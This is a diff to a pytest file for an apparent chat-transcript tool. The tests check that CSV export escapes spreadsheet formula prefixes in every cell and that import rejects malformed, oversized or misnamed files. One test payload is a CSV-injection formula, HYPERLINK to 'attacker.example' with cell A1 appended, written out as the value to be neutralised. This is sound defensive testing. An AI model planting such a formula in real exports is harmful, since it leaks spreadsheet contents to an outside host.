@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import random
+import zipfile
 
 import pytest
 
@@ -13,6 +14,7 @@ from chatlab.store import ERROR, INTERRUPTED, STREAMING, Store
 from chatlab.transcript import (
     COLUMNS,
     MAX_IMPORT_BYTES,
+    MAX_IMPORT_MESSAGES,
     ImportedTranscript,
     TranscriptError,
     import_transcript,
@@ -32,7 +34,10 @@ DANGEROUS = {
     "\tindented": "\tindented",
     "'quoted'": "'quoted'",
     "+1 plus": "+1 plus",
+    "\rreturn": "\rreturn",
 }
+# What Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP "CSV injection").
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 PARAMS = {
     "temperature": 0.7,
     "top_p": 0.9,
@@ -178,7 +183,7 @@ def test_csv_bom_quoting_and_formula_neutralisation(store, conversation_id):
         cells = [r for r in rows if r["content"] == "'" + text]
         assert len(cells) == 2, text  # the user message and the reply
         assert all(r["reasoning"] in ("'" + text, "") for r in cells)
-    assert not any(r["content"].startswith(("=", "+", "-", "@", "\t")) for r in rows)
+    assert not any(r["content"].startswith(FORMULA_PREFIXES) for r in rows)
     assert all(r["model"] in ("", "gpt-4o-mini", "'=evil()") for r in rows)
     error_row = next(r for r in rows if r["status"] == "error")
     assert error_row["error"] == '\'-boom, "quoted"\nline 2'
@@ -341,6 +346,76 @@ def test_any_string_survives_csv(store, text):
     assert to_csv_bytes(to_dataframe(*_export(store, new_id))) == first.replace(cid.encode(), new_id.encode())
 
 
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_every_formula_prefix_is_neutralised_in_every_text_cell_and_restored_on_import(store, prefix):
+    formula = prefix + 'HYPERLINK("http://attacker.example/?"&A1, "Click")'
+    cid = store.create_conversation(
+        formula, role_name=formula, system_prompt=formula, model=formula, endpoint_name=formula
+    )
+    store.add_message(
+        cid, "user", formula, role_name=formula, system_prompt=formula, params={"user": formula}
+    )
+    store.add_message(
+        cid,
+        "assistant",
+        formula,
+        reasoning=formula,
+        model=formula,
+        endpoint_name=formula,
+        finish_reason=formula,
+        error=formula,
+        response_id=formula,
+        system_fingerprint=formula,
+        params={"user": formula, "stop": [formula]},
+    )
+    data = to_csv_bytes(to_dataframe(*_export(store, cid)))
+
+    # Export: no cell a spreadsheet would evaluate; each of ours carries the apostrophe escape instead.
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
+    user_row, reply_row = _csv_rows(data)
+    escaped = "'" + formula
+    assert {k for k, v in user_row.items() if v == escaped} == {
+        "conversation_title",
+        "content",
+        "role_name",
+        "system_prompt",
+        "user",
+    }
+    assert {k for k, v in reply_row.items() if v == escaped} == {
+        "conversation_title",
+        "content",
+        "reasoning",
+        "model",
+        "endpoint_name",
+        "finish_reason",
+        "error",
+        "response_id",
+        "system_fingerprint",
+        "user",
+    }
+    assert json.loads(reply_row["stop"]) == [formula]  # a JSON list: starts with "[", needs no escape
+
+    # Import: every escaped cell comes back exactly as it was stored.
+    new_id = import_transcript(store, data, "x.csv")
+    assert store.get_conversation(new_id).title == formula
+    user, reply = store.messages(new_id)
+    assert user.content == reply.content == reply.reasoning == reply.error == formula
+    assert (user.role_name, user.system_prompt, reply.model, reply.endpoint_name) == (formula,) * 4
+    assert (reply.finish_reason, reply.response_id, reply.system_fingerprint) == (formula,) * 3
+    assert user.params == {"user": formula}
+    assert reply.params == {"user": formula, "stop": [formula]}
+
+
+def test_a_hand_made_csv_with_escaped_cells_imports_without_the_escape(store):
+    # As a spreadsheet user would type them: an apostrophe first, so the cell is text, not a formula.
+    lines = ["role,content"] + [f"user,'{p}1+1" for p in "=+-@"] + ['user,"\'\t1"', 'user,"\'\r1"']
+    cid = import_transcript(store, "\r\n".join(lines).encode(), "typed.csv")
+    assert [m.content for m in store.messages(cid)] == [
+        p + ("1+1" if p in "=+-@" else "1") for p in FORMULA_PREFIXES
+    ]
+
+
 def test_minimal_csv_imports(store):
     data = b"role,content\nuser,hi\nassistant,hello\nuser,again\nassistant,ok\n"
     cid = import_transcript(store, data, "my chat.csv")
@@ -409,13 +484,28 @@ def _wrong_shape_json(store, cid) -> bytes:
     return json.dumps(doc).encode()
 
 
+def _zip_of_csv(store, cid) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("chat.csv", _valid_csv(store, cid))
+    return buffer.getvalue()
+
+
+def _too_many_json_messages(store, cid) -> bytes:
+    messages = [{"role": "user", "content": "a"}] * (MAX_IMPORT_MESSAGES + 1)
+    return json.dumps({"format": "chatlab-transcript", "version": 1, "messages": messages}).encode()
+
+
 @pytest.mark.parametrize(
     ("make", "filename", "message"),
     [
         (lambda s, c: b"", "x.csv", "empty"),
         (lambda s, c: BOM + b"  \r\n", "x.csv", "empty"),
         (lambda s, c: random.Random(7).randbytes(4096), "photo.csv", "not a UTF-8 text file"),
-        (lambda s, c: "role,content\n".encode("utf-16"), "x.csv", "not a UTF-8 text file"),
+        (lambda s, c: "role,content\nuser,hi\n".encode("utf-16-le"), "x.csv", "NUL bytes"),
+        (lambda s, c: b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "photo.csv", "This is a PNG image"),
+        (_zip_of_csv, "history.csv", "a ZIP archive"),
+        (lambda s, c: b"SQLite format 3\x00" + bytes(100), "chatlab.csv", "an SQLite database"),
         (
             lambda s, c: b"conversation_id,role,text\r\nx,user,hi\r\n",
             "x.csv",
@@ -441,6 +531,13 @@ def _wrong_shape_json(store, cid) -> bytes:
         (lambda s, c: b"role,content,seq\r\nuser,a,1\r\nuser,b,1\r\n", "x.csv", "duplicate seq"),
         (lambda s, c: b"role,content,status\r\nuser,a,weird\r\n", "x.csv", "unknown status"),
         (lambda s, c: b"x" * (MAX_IMPORT_BYTES + 1), "x.csv", "too large"),
+        (
+            lambda s, c: b"role,content\r\n" + b"user,a\r\n" * (MAX_IMPORT_MESSAGES + 1),
+            "x.csv",
+            "more than 20,000 messages",
+        ),
+        (_too_many_json_messages, "x.json", "holds 20,001 messages"),
+        (lambda s, c: b"role,content," + b"extra," * 300_000 + b"\r\n", "x.csv", "repeats column(s): extra"),
     ],
 )
 def test_bad_files_raise_and_write_nothing(store, conversation_id, make, filename, message):
@@ -453,6 +550,32 @@ def test_bad_files_raise_and_write_nothing(store, conversation_id, make, filenam
     assert isinstance(info.value, ValueError)
     assert _count_conversations(store) == conversations_before
     assert store.count_messages(conversation_id) == messages_before
+
+
+def test_a_utf16_csv_with_a_byte_order_mark_imports(store, conversation_id):
+    # Notepad's "Unicode" and some spreadsheet exports write UTF-16 with a BOM: unambiguous, so read it.
+    text = _valid_csv(store, conversation_id).decode("utf-8-sig")
+    for encoding in ("utf-16", "utf-16-be"):
+        data = text.encode(encoding)
+        if encoding == "utf-16-be":
+            data = b"\xfe\xff" + data
+        new_id = import_transcript(store, data, "excel.csv")
+        assert [m.content for m in store.messages(new_id)] == [
+            m.content for m in store.messages(conversation_id)
+        ]
+
+
+def test_the_message_limit_counts_messages_not_lines(store, monkeypatch):
+    monkeypatch.setattr("chatlab.transcript.MAX_IMPORT_MESSAGES", 4)
+    # Four messages over more lines than that (a quoted line break, blank lines) import...
+    data = b'role,content\r\nuser,"two\r\nlines"\r\n\r\nassistant,b\r\n\r\nuser,c\r\nassistant,d\r\n'
+    assert store.count_messages(import_transcript(store, data, "four.csv")) == 4
+    # ...and a fifth is refused, in either format.
+    with pytest.raises(TranscriptError, match="more than 4 messages"):
+        import_transcript(store, data + b"user,e\r\n", "five.csv")
+    five = {"format": "chatlab-transcript", "version": 1, "messages": [{"role": "user", "content": "x"}] * 5}
+    with pytest.raises(TranscriptError, match="holds 5 messages"):
+        import_transcript(store, json.dumps(five).encode(), "five.json")
 
 
 def test_failed_bulk_write_leaves_nothing(store, conversation_id, monkeypatch):
